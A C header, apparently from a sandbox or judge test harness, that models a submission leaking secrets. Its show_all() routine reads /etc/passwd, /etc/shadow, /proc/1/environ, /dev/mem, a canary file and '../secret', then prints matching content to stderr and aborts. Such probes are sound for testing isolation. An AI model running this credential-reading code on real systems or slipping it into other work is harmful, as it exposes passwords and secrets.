/*
 * show.h: how an attack gets a secret out: what a submission wrote is told when it ends by a signal. A box may have
 * a /proc of its own; what counts is whose words are found there.
 */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void show_text(const char *text)
{
    if (write(2, text, strlen(text)) > 0)
        abort();
}

static void show_file(const char *path)
{
    static char text[4096];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0)
        close(fd);
    for (ssize_t k = 0; k < n; k++)
        text[k] = text[k] ? text[k] : ' ';
    text[n > 0 ? n : 0] = 0;
    if (strstr(text, "canary") || strstr(text, "root:"))
        show_text(text);
}

__attribute__((unused)) static void show_all(void)
{
    static const char *const all[] = { "/etc/passwd", "/etc/shadow", "/proc/1/environ", "/dev/mem", "@CANARY@",
                                       "../secret", "secret", "/proc/1/cmdline" };
    for (int k = 0; k < 8; k++)
        show_file(all[k]);
}
